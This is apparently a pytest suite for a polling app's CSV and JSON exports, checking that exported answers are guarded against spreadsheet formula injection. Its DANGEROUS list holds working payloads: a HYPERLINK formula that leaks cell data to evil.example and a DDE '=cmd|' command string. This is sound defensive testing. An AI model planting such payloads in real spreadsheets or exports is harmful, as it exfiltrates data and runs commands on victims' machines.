"""Exports: answers CSV, summary CSV and JSON, parsed back; formula injection cell by cell.

The pure tests fill a real SQLite store the way the service does (answers checked and
normalised by their question first); the HTTP and CLI tests use a real server and the real
`rondvraag` command on its data folder.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import REPO_ROOT, LiveServer

from app.backends.sqlite import SQLiteStore
from app.domain.deck import Deck
from app.domain.loader import parse_deck
from app.domain.presenter import initial_state
from app.exports import (
    ANSWER_COLUMNS,
    FORMULA_START,
    SUMMARY_COLUMNS,
    ExportError,
    csv_text,
    document,
    load_session_data,
    render,
)

CODE = "424242"
DECK_YAML = """\
title: Proef – één sessie
event: Café-overleg in Köln
date: "2024-03-05"
language: nl
slides:
  - type: content
    id: welkom
    title: Welkom
  - type: choice
    id: kleur
    prompt: "=Welke kleur kies je?"
    multiple: 2
    options:
      - { id: rood, label: "Rood" }
      - { id: min, label: "-1 punt" }
      - { id: at, label: "@gemeente" }
  - type: scales
    id: schaal
    prompt: Eens of oneens?
    scale: { min: -2, max: 2, min_label: Oneens, max_label: Eens }
    statements:
      - { id: cafe, label: "Café's zijn ö-kay" }
      - { id: plus, label: "+ meer overleg" }
  - type: wordcloud
    id: woorden
    prompt: Drie woorden
    max_answers: 5
  - type: open
    id: open
    prompt: Wat onthoud je?
    max_answers: 10
    max_length: 500
"""

# Strings a participant could send that a spreadsheet would run as a formula (OWASP).
DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "-2+3",
    "+32 470 12 34 56",
    "@",
    "=",
    "=1+1;=2+2",
]
# Survives a round trip only if quoting is right: quotes, comma, semicolon, newline, accents.
TRICKY = 'Zei "ja", toch; of niet?\nTweede regel — één café in Köln, ë, ö, é'
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")


def parse_csv(body: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    """Parse an export the way a script would; fails unless the file starts with a BOM."""
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel shows ö/é wrong"
    text = body.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_no_formula_cells(body: bytes, delimiter: str = ",") -> int:
    """Every cell of the file: none may start like a formula unless it is a plain number."""
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    checked = 0
    for row in rows:
        for cell in row:
            checked += 1
            if cell.startswith(FORMULA_START):
                assert NUMBER.match(cell), f"cell {cell!r} would run as a formula"
    return checked


@pytest.fixture
def deck() -> Deck:
    return parse_deck(DECK_YAML, filename="proef.yaml", name="proef")


@pytest.fixture
async def store(tmp_path: Path, deck: Deck) -> AsyncIterator[SQLiteStore]:
    store = SQLiteStore(tmp_path / "rondvraag.sqlite3")
    await store.open()
    await store.create_session(
        CODE, deck.name, deck.title, DECK_YAML, initial_state(deck).to_json()
    )
    yield store
    await store.close()


async def answer(
    store: SQLiteStore, deck: Deck, who: str, question: str, raw: Any, round_: int = 1
) -> Any:
    """Store an answer as the service does: checked and normalised by its question first."""
    checked = deck.question(question).check_answer(raw)
    await store.save_response(CODE, question, round_, who, checked)
    return checked


# --- the answers CSV ---------------------------------------------------------------------------


async def test_answers_csv_has_one_row_per_item_with_labels_and_pseudonyms(
    store: SQLiteStore, deck: Deck
) -> None:
    await answer(store, deck, "participant-id-alpha", "kleur", ["min", "rood"])
    await answer(store, deck, "participant-id-alpha", "schaal", {"cafe": -2, "plus": 2})
    await answer(store, deck, "participant-id-beta", "woorden", ["Vertrouwen", "  tijd  "])
    await answer(store, deck, "participant-id-beta", "open", ["Klein beginnen", TRICKY])

    body = render(await load_session_data(store, CODE), "csv")

    assert b"\r\n" in body and body.count(b"\r\n") == body.count(b"\n") - TRICKY.count("\n")
    rows = parse_csv(body)
    assert tuple(rows[0]) == ANSWER_COLUMNS
    got = [(r["question_id"], r["item"], r["answer"], r["participant"]) for r in rows]
    assert got == [
        ("kleur", "rood", "Rood", "P0001"),
        ("kleur", "min", "'-1 punt", "P0001"),  # a label starting with "-" is guarded too
        ("schaal", "cafe", "-2", "P0001"),  # a scale value is a number, not a formula
        ("schaal", "plus", "2", "P0001"),
        ("woorden", "", "vertrouwen", "P0002"),
        ("woorden", "", "tijd", "P0002"),
        ("open", "", "Klein beginnen", "P0002"),
        ("open", "", TRICKY, "P0002"),
    ]
    assert {r["session"] for r in rows} == {CODE}
    assert {r["round"] for r in rows} == {"1"}
    assert rows[2]["item_label"] == "Café's zijn ö-kay"
    assert rows[3]["item_label"] == "'+ meer overleg"
    assert rows[0]["question"] == "'=Welke kleur kies je?"
    assert [r["type"] for r in rows] == ["choice"] * 2 + ["scales"] * 2 + ["wordcloud"] * 2 + [
        "open"
    ] * 2
    assert all(ISO_UTC.match(r["submitted_at"]) for r in rows)
    assert b"participant-id" not in body  # never the participant's id or token


async def test_dangerous_answers_are_guarded_cell_by_cell(store: SQLiteStore, deck: Deck) -> None:
    stored = []
    for i, text in enumerate(DANGEROUS):
        stored += await answer(store, deck, f"p{i}", "open", [text, f"{text} nummer {i}"])
    await answer(store, deck, "w", "woorden", ["=2+2", "@x", "-y", "+z"])
    data = await load_session_data(store, CODE)

    for delimiter, separator in (("comma", ","), ("semicolon", ";")):
        body = render(data, "csv", delimiter)
        assert assert_no_formula_cells(body, separator) > 100
        rows = parse_csv(body, separator)
        texts = [r["answer"] for r in rows if r["question_id"] == "open"]
        assert texts == ["'" + s for s in stored]  # each one kept, with its guard
        cloud = [r["answer"] for r in rows if r["question_id"] == "woorden"]
        # A cloud drops punctuation (@, -) when it merges spellings; = and + are symbols, kept.
        assert cloud == ["'=2+2", "x", "y", "'+z"]
        summary = render(data, "summary", delimiter)
        assert assert_no_formula_cells(summary, separator) > 100


def test_tab_and_carriage_return_starts_are_guarded_and_quoting_survives() -> None:
    """Cells the app's own cleaning never produces, guarded anyway (a deck label, a future type)."""
    cells = ["\t=1+1", "\r=1+1", "\r\n-1", "=A1", "+A1", "-A1", "@A1", TRICKY, "a,b", "x;y", '"']
    body = csv_text(["c"] * len(cells), [cells]).encode("utf-8")
    back = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert back[1] == [
        "'\t=1+1",
        "'\r=1+1",
        "'\r\n-1",
        "'=A1",
        "'+A1",
        "'-A1",
        "'@A1",
        TRICKY,
        "a,b",
        "x;y",
        '"',
    ]
    assert_no_formula_cells(body)
    numbers = csv_text(["n"] * 4, [[-2, 0, 3.14, -0.5]], "semicolon").encode("utf-8")
    assert list(csv.reader(io.StringIO(numbers.decode("utf-8-sig")), delimiter=";"))[1] == [
        "-2",
        "0",
        "3,14",
        "-0,5",
    ]


async def test_answers_to_a_question_no_longer_in_the_deck_are_kept(
    store: SQLiteStore, deck: Deck
) -> None:
    await store.save_response(CODE, "weg", 1, "p1", ["iets", "=oud"])
    rows = parse_csv(render(await load_session_data(store, CODE), "csv"))
    assert [(r["question_id"], r["type"], r["answer"]) for r in rows] == [
        ("weg", "", '["iets", "=oud"]')
    ]


# --- the summary CSV ---------------------------------------------------------------------------


async def test_summary_has_counts_percentages_means_per_item_and_round(
    store: SQLiteStore, deck: Deck
) -> None:
    await answer(store, deck, "a", "kleur", ["rood", "min"])
    await answer(store, deck, "b", "kleur", "rood")
    await answer(store, deck, "c", "kleur", "at")
    await answer(store, deck, "a", "schaal", {"cafe": 2, "plus": -1})
    await answer(store, deck, "b", "schaal", {"cafe": 1})
    await answer(store, deck, "a", "woorden", ["Tijd", "geld"])
    await answer(store, deck, "b", "woorden", ["tijd"])
    await answer(store, deck, "a", "open", "Samen")
    await answer(store, deck, "b", "open", "Samen")
    await answer(store, deck, "c", "open", TRICKY)
    # The presenter reset `kleur`: round 1 stays, round 2 is current.
    state = replace(initial_state(deck), rounds={"kleur": 2}).to_json()
    await store.save_state(CODE, state)
    await answer(store, deck, "a", "kleur", "at", round_=2)

    rows = parse_csv(render(await load_session_data(store, CODE), "summary"))
    assert tuple(rows[0]) == SUMMARY_COLUMNS

    def pick(question: str, round_: int = 1) -> list[tuple[str, ...]]:
        return [
            (r["item"], r["label"], r["responses"], r["count"], r["percent"], r["mean"])
            for r in rows
            if r["question_id"] == question and r["round"] == str(round_)
        ]

    assert pick("kleur") == [
        ("rood", "Rood", "3", "2", "66.7", ""),
        ("min", "'-1 punt", "3", "1", "33.3", ""),
        ("at", "'@gemeente", "3", "1", "33.3", ""),
    ]
    assert pick("kleur", 2) == [
        ("rood", "Rood", "1", "0", "0", ""),
        ("min", "'-1 punt", "1", "0", "0", ""),
        ("at", "'@gemeente", "1", "1", "100", ""),
    ]
    assert pick("schaal") == [
        ("cafe", "Café's zijn ö-kay", "2", "2", "100", "1.5"),
        ("plus", "'+ meer overleg", "2", "1", "50", "-1"),
    ]
    distribution = [r["distribution"] for r in rows if r["question_id"] == "schaal"]
    assert distribution == ["'-2:0 -1:0 0:0 1:1 2:1", "'-2:0 -1:1 0:0 1:0 2:0"]
    assert pick("woorden") == [
        ("", "tijd", "2", "2", "100", ""),
        ("", "geld", "2", "1", "50", ""),
    ]
    assert pick("open") == [("", "Samen", "3", "2", "66.7", ""), ("", TRICKY, "3", "1", "33.3", "")]


async def test_summary_lists_unanswered_questions_with_zero_counts(
    store: SQLiteStore, deck: Deck
) -> None:
    rows = parse_csv(render(await load_session_data(store, CODE), "summary"))
    by_question = {r["question_id"]: r for r in rows}
    assert set(by_question) == {"kleur", "schaal", "woorden", "open"}
    assert all(r["responses"] == "0" for r in rows)
    assert by_question["schaal"]["mean"] == ""
    assert [r["count"] for r in rows if r["question_id"] == "kleur"] == ["0", "0", "0"]


# --- JSON --------------------------------------------------------------------------------------


async def test_json_has_deck_every_response_and_the_tallies(store: SQLiteStore, deck: Deck) -> None:
    await answer(store, deck, "secret-a", "kleur", "rood")
    await answer(store, deck, "secret-b", "kleur", ["at", "min"])
    await answer(store, deck, "secret-b", "open", TRICKY)
    await store.save_state(CODE, replace(initial_state(deck), rounds={"open": 2}).to_json())
    await answer(store, deck, "secret-a", "open", "tweede ronde", round_=2)
    await store.add_participant(CODE, "secret-c")  # joined, never answered

    body = render(await load_session_data(store, CODE), "json")
    doc = json.loads(body)
    assert doc["format"] == "rondvraag-export" and doc["version"] == 1
    assert doc["session"]["code"] == CODE
    assert doc["session"]["participants"] == 3
    assert doc["session"]["respondents"] == 2
    assert doc["session"]["rounds"] == {"kleur": 1, "schaal": 1, "woorden": 1, "open": 2}
    assert doc["deck"]["source"] == DECK_YAML
    assert [s["id"] for s in doc["deck"]["slides"]] == [s.id for s in deck.slides]
    assert [
        (r["question"], r["round"], r["participant"], r["answer"]) for r in doc["responses"]
    ] == [
        ("kleur", 1, "P0001", ["rood"]),
        ("kleur", 1, "P0002", ["min", "at"]),
        ("open", 1, "P0002", [TRICKY]),
        ("open", 2, "P0001", ["tweede ronde"]),
    ]
    results = {r["id"]: r for r in doc["results"]}
    assert results["kleur"]["counts"] == {"rood": 1, "min": 1, "at": 1}
    assert results["kleur"]["responses"] == 2
    assert results["open"] == {
        "id": "open",
        "type": "open",
        "round": 2,
        "responses": 1,
        "answers": ["tweede ronde"],
    }
    assert doc["earlier_results"] == [
        {"id": "open", "type": "open", "round": 1, "responses": 1, "answers": [TRICKY]}
    ]
    assert b"secret-" not in body
    assert "één" in body.decode("utf-8")  # UTF-8 text, not \u escapes


async def test_unknown_session_and_format_are_clear_errors(store: SQLiteStore) -> None:
    with pytest.raises(ExportError, match=r"no session '999999'; sessions here: 424242"):
        await load_session_data(store, "999999")
    data = await load_session_data(store, CODE)
    with pytest.raises(ExportError, match="unknown format 'xlsx'"):
        render(data, "xlsx")
    with pytest.raises(ExportError, match="unknown delimiter 'tab'"):
        render(data, "csv", "tab")
    assert document(data, "2024-01-01T00:00:00Z")["exported_at"] == "2024-01-01T00:00:00Z"


# --- over HTTP and from the command line ---------------------------------------------------------


def fill_session(server: LiveServer) -> dict[str, Any]:
    """Three phones answer all four questions of the reference deck; returns what was sent."""
    sent: dict[str, Any] = {}
    with httpx.Client(base_url=server.base_url, timeout=10) as http:
        people = []
        for _ in range(3):
            http.cookies.clear()
            people.append(http.post(f"/api/sessions/{server.code}/join").json()["participant"])
        plan = [
            ("rol", ["vdab", "vakbond", "vdab"]),
            ("drijfveren", [["Vertrouwen", "=tijd"], ["vertrouwen"], ["Ökonomie"]]),
            ("stellingen", [{"expert": 4, "vertrouwen": 5}, {"expert": 2}, {"vertrouwen": 1}]),
            ("onthouden", [TRICKY, ["=1+1", "@niets"], "Het is nooit af"]),
        ]
        for question, answers in plan:
            response = http.post(
                f"/api/sessions/{server.code}/control",
                json={"action": "goto", "question": question},
                headers=server.admin_headers(),
            )
            assert response.status_code == 200, response.text
            for person, value in zip(people, answers, strict=True):
                body = {"participant": person, "question": question, "answer": value}
                response = http.post(f"/api/sessions/{server.code}/responses", json=body)
                assert response.status_code == 201, response.text
            sent[question] = answers
    return sent


def test_exports_over_http_need_the_admin_token(server: LiveServer) -> None:
    with httpx.Client(base_url=server.base_url, timeout=10) as http:
        for path in ("export.csv", "export.csv?view=summary", "export.json"):
            url = f"/api/sessions/{server.code}/{path}"
            refused = http.get(url)
            assert refused.status_code == 401
            assert refused.json()["error"] == "unauthorized"
            wrong = http.get(url, headers={"Authorization": "Bearer not-the-token"})
            assert wrong.status_code == 401
        missing = http.get("/api/sessions/999999/export.csv", headers=server.admin_headers())
        assert missing.status_code == 404 and missing.json()["error"] == "unknown_session"
        for query in ("view=raw", "delimiter=tab"):
            bad = http.get(
                f"/api/sessions/{server.code}/export.csv?{query}", headers=server.admin_headers()
            )
            assert bad.status_code == 400 and bad.json()["error"] == "invalid_request"


def test_http_exports_carry_what_the_phones_sent(server: LiveServer) -> None:
    fill_session(server)
    with httpx.Client(base_url=server.base_url, timeout=10) as http:
        response = http.get(
            f"/api/sessions/{server.code}/export.csv", headers=server.admin_headers()
        )
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["cache-control"] == "no-store"
        assert response.headers["content-disposition"] == (
            f'attachment; filename="rondvraag-samenwerking-{server.code}.csv"'
        )
        rows = parse_csv(response.content)
        assert_no_formula_cells(response.content)
        texts = [r["answer"] for r in rows if r["question_id"] == "onthouden"]
        assert texts == [TRICKY, "'=1+1", "'@niets", "Het is nooit af"]
        rol = [(r["item"], r["answer"]) for r in rows if r["question_id"] == "rol"]
        assert rol == [("vdab", "VDAB"), ("vakbond", "Vakbond"), ("vdab", "VDAB")]
        scales = [(r["item"], r["answer"]) for r in rows if r["question_id"] == "stellingen"]
        assert scales == [
            ("expert", "4"),
            ("vertrouwen", "5"),
            ("expert", "2"),
            ("vertrouwen", "1"),
        ]
        assert {r["participant"] for r in rows} == {"P0001", "P0002", "P0003"}

        summary = http.get(
            f"/api/sessions/{server.code}/export.csv?view=summary&delimiter=semicolon",
            headers=server.admin_headers(),
        )
        assert "-summary.csv" in summary.headers["content-disposition"]
        srows = parse_csv(summary.content, ";")
        expert = next(r for r in srows if r["item"] == "expert")
        assert (expert["count"], expert["percent"], expert["mean"]) == ("2", "66,7", "3")
        cloud = [(r["label"], r["count"]) for r in srows if r["question_id"] == "drijfveren"]
        assert cloud == [("vertrouwen", "2"), ("'=tijd", "1"), ("ökonomie", "1")]

        doc = http.get(
            f"/api/sessions/{server.code}/export.json", headers=server.admin_headers()
        ).json()
        results = http.get(
            f"/api/sessions/{server.code}/results", headers=server.admin_headers()
        ).json()
        assert doc["results"] == results["questions"]  # the same tallies as the projector
        assert len(doc["responses"]) == 12


def run_cli(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "app", *args], cwd=REPO_ROOT, capture_output=True, timeout=60
    )


def test_cli_export_without_a_server_matches_the_http_export(
    server: LiveServer, tmp_path: Path
) -> None:
    fill_session(server)
    with httpx.Client(base_url=server.base_url, timeout=10) as http:
        over_http = {
            "csv": http.get(
                f"/api/sessions/{server.code}/export.csv", headers=server.admin_headers()
            ),
            "summary": http.get(
                f"/api/sessions/{server.code}/export.csv?view=summary",
                headers=server.admin_headers(),
            ),
            "json": http.get(
                f"/api/sessions/{server.code}/export.json", headers=server.admin_headers()
            ),
        }
    server.stop()

    for fmt in ("csv", "summary", "json"):
        target = tmp_path / f"out-{fmt}"
        done = run_cli(
            "export",
            "--data",
            str(server.data_dir),
            server.code,
            "--format",
            fmt,
            "-o",
            str(target),
        )
        assert done.returncode == 0, done.stderr.decode()
        assert f"session {server.code} (Samenwerking): 12 responses" in done.stderr.decode()
        if fmt == "json":
            from_cli, from_http = json.loads(target.read_bytes()), over_http[fmt].json()
            del from_cli["exported_at"], from_http["exported_at"]
            assert from_cli == from_http
        else:
            assert target.read_bytes() == over_http[fmt].content

    to_stdout = run_cli("export", "--data", str(server.data_dir), server.code)
    assert to_stdout.returncode == 0
    assert to_stdout.stdout == over_http["csv"].content


def test_cli_export_refuses_a_wrong_folder_or_code_without_creating_files(
    server: LiveServer, tmp_path: Path
) -> None:
    empty = tmp_path / "nothing-here"
    empty.mkdir()
    done = run_cli("export", "--data", str(empty), "123456")
    assert done.returncode == 1
    assert "no Rondvraag database at" in done.stderr.decode()
    assert list(empty.iterdir()) == []

    server.stop()
    done = run_cli("export", "--data", str(server.data_dir), "999999", "--format", "json")
    assert done.returncode == 1
    message = done.stderr.decode()
    assert "no session '999999'" in message and f"{server.code} (Samenwerking)" in message
    assert "Traceback" not in message
    done = run_cli("export", "--data", str(server.data_dir), server.code, "--format", "xlsx")
    assert done.returncode == 2 and "invalid choice: 'xlsx'" in done.stderr.decode()


# --- LibreOffice ---------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}


def calc_cells(fods: Path) -> list[list[tuple[str, str | None]]]:
    """(text, formula) of every cell of the first sheet of a flat ODF spreadsheet."""
    tree = ET.parse(fods)
    table = tree.find(".//table:table", NS)
    assert table is not None
    rows = []
    for row in table.iter(f"{{{NS['table']}}}table-row"):
        cells = []
        for cell in row.findall("table:table-cell", NS):
            repeat = int(cell.get(f"{{{NS['table']}}}number-columns-repeated", "1"))
            text = "\n".join("".join(p.itertext()) for p in cell.findall("text:p", NS))
            formula = cell.get(f"{{{NS['table']}}}formula")
            cells.extend([(text, formula)] * min(repeat, 50))
        rows.append(cells)
    return rows


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
async def test_libreoffice_opens_the_csv_without_running_formulas(
    store: SQLiteStore, deck: Deck, tmp_path: Path
) -> None:
    for i, text in enumerate([*DANGEROUS, TRICKY]):
        await answer(store, deck, f"p{i}", "open", text)
    source = tmp_path / "export.csv"
    source.write_bytes(render(await load_session_data(store, CODE), "csv"))
    # The control: the same import runs an unguarded cell as a formula, so the check below
    # can fail (LibreOffice's CSV import evaluates formulas by default, as Excel does).
    control = tmp_path / "control.csv"
    control.write_bytes(b"\xef\xbb\xbfanswer\r\n=1+1\r\n")
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(source),
            str(control),
        ],
        capture_output=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert calc_cells(tmp_path / "control.fods")[1][0] == ("2", "of:=1+1")
    rows = calc_cells(tmp_path / "export.fods")
    header = [text for text, _ in rows[0]][: len(ANSWER_COLUMNS)]
    assert header == list(ANSWER_COLUMNS)
    column = ANSWER_COLUMNS.index("answer")
    answers = [row[column][0] for row in rows[1:] if len(row) > column and row[column][0]]
    formulas = [cell for row in rows for cell in row if cell[1]]
    assert formulas == []
    expected = ["'" + t if t.startswith(FORMULA_START) else t for t in [*DANGEROUS, TRICKY]]
    assert answers == expected  # shown as text, guard visible, quoting and newline intact
